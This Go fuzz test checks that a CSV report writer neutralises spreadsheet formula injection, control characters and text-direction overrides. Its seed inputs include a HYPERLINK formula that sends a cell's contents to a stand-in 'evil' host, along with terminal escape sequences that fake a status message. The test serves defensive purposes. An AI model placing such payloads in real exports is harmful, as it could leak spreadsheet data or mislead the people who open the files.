package importer

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"testing"
	"unicode"
	"unicode/utf8"
)

// FuzzReportWriter writes hostile text in every column of the report and
// reads the file back as a spreadsheet's importer would:
//
//	go test ./importer -run '^$' -fuzz FuzzReportWriter -fuzztime 5m
func FuzzReportWriter(f *testing.F) {
	seeds := [][4]string{
		{"a@x.io", "inserted", "u-1", ""},
		{"=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "failed", "@SUM(1+1)", "-2+3"},
		{"+14155550100", "+", "-", "@"},
		{"\t=1", "\r=1", "\n=1", " \t =1"},
		{"'=1", "''", "'", "\u3000＝1"},
		{"a,b", "a;=b", "a|=b", "\"=1\",\"=2\""},
		{"line 1\nline 2", "a\r\nb", "\x00\x01\x1f\x7f", "\u0085\u009b"},
		{"\x1b]0;ALL GOOD\x07\x1b[2J", "\u202e\u2066", "\xff\xfe\xc3", "\ufeff=1"},
		{"", "", "", ""},
		{" ", "\"", "\"\"", " lead"},
	}
	for _, s := range seeds {
		f.Add(s[0], s[1], s[2], s[3])
	}
	f.Fuzz(func(t *testing.T, a, b, c, d string) {
		// Every string in every column, once each.
		in := []ReportRow{
			{Row: 1, Identifier: a, Outcome: Outcome(b), UserID: c, Reason: d, SourceID: a},
			{Row: 2, Identifier: d, Outcome: Outcome(a), UserID: b, Reason: c, SourceID: b},
			{Row: 3, Identifier: c, Outcome: Outcome(d), UserID: a, Reason: b, SourceID: c},
			{Row: 4, Identifier: b, Outcome: Outcome(c), UserID: d, Reason: a, SourceID: d},
		}
		path := filepath.Join(t.TempDir(), "r.csv")
		w, err := NewReportWriter(path)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range in {
			if err := w.Write(r); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		raw, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		// One record, one line.
		if n := bytes.Count(raw, []byte("\n")); n != len(in)+1 {
			t.Fatalf("%d lines for %d records:\n%q", n, len(in), raw)
		}
		checkReportBytes(t, raw)
		recs, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
		if err != nil {
			t.Fatalf("not valid CSV: %v\n%q", err, raw)
		}
		if len(recs) != len(in)+1 {
			t.Fatalf("%d CSV records for %d rows", len(recs), len(in))
		}
		back, err := ReadReport(path)
		if err != nil {
			t.Fatal(err)
		}
		if len(back) != len(in) {
			t.Fatalf("ReadReport: %d rows of %d", len(back), len(in))
		}
		for i, r := range in {
			rec := recs[i+1]
			if len(rec) != 6 {
				t.Fatalf("record %d has %d cells: %q", i+1, len(rec), rec)
			}
			for k, s := range []string{r.Identifier, string(r.Outcome), r.UserID, r.Reason, r.SourceID} {
				cell := rec[k+1]
				checkReportCell(t, s, cell)
			}
			// ReadReport gives back what was written, control characters
			// escaped (the documented neutralisation), nothing else.
			want := ReportRow{Row: r.Row, Identifier: Printable(r.Identifier), Outcome: Outcome(Printable(string(r.Outcome))),
				UserID: Printable(r.UserID), Reason: Printable(r.Reason), SourceID: Printable(r.SourceID)}
			if back[i] != want {
				t.Fatalf("ReadReport row %d:\n %+v\nwant\n %+v", i+1, back[i], want)
			}
		}
	})
}

// checkReportCell checks one cell as a spreadsheet reads it, against the
// text s written into it.
func checkReportCell(t *testing.T, s, cell string) {
	t.Helper()
	if !utf8.ValidString(cell) {
		t.Fatalf("%q → cell %q: invalid UTF-8", s, cell)
	}
	for _, r := range cell {
		if unicode.IsControl(r) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
			t.Fatalf("%q → cell %q holds %U", s, cell, r)
		}
	}
	// No formula: the first character that is not white space is none
	// of OWASP's, unless the cell starts with the neutralising quote.
	if cell == "" || cell[0] != '\'' {
		for _, r := range cell {
			if unicode.IsSpace(r) {
				continue
			}
			switch r {
			case '=', '+', '-', '@', '＝', '＋', '－', '＠':
				t.Fatalf("%q → cell %q starts a formula", s, cell)
			}
			break
		}
	}
	// Modulo the neutralisation, the cell is the text: its printable form
	// with, perhaps, one quote in front.
	p := Printable(s)
	if cell != p && cell != "'"+p {
		t.Fatalf("%q → cell %q, want %q or with a quote", s, cell, p)
	}
	if cell == "'"+p && !(len(p) > 0 && p[0] == '\'') && !startsFormula(p) {
		t.Fatalf("%q → cell %q: a quote without a reason", s, cell)
	}
}

// checkReportBytes checks the file itself: outside double-quoted fields
// there is no other separator a spreadsheet might split on.
func checkReportBytes(t *testing.T, raw []byte) {
	t.Helper()
	quoted := false
	for i, c := range raw {
		switch {
		case c == '"':
			quoted = !quoted
		case !quoted && (c == ';' || c == '|' || c == '\t' || c == '\r'):
			t.Fatalf("byte %d: %q outside quotes:\n%q", i, c, raw)
		case c < 0x20 && c != '\n':
			t.Fatalf("byte %d: control %#x in the file:\n%q", i, c, raw)
		}
	}
	if quoted {
		t.Fatalf("unclosed quote:\n%q", raw)
	}
}
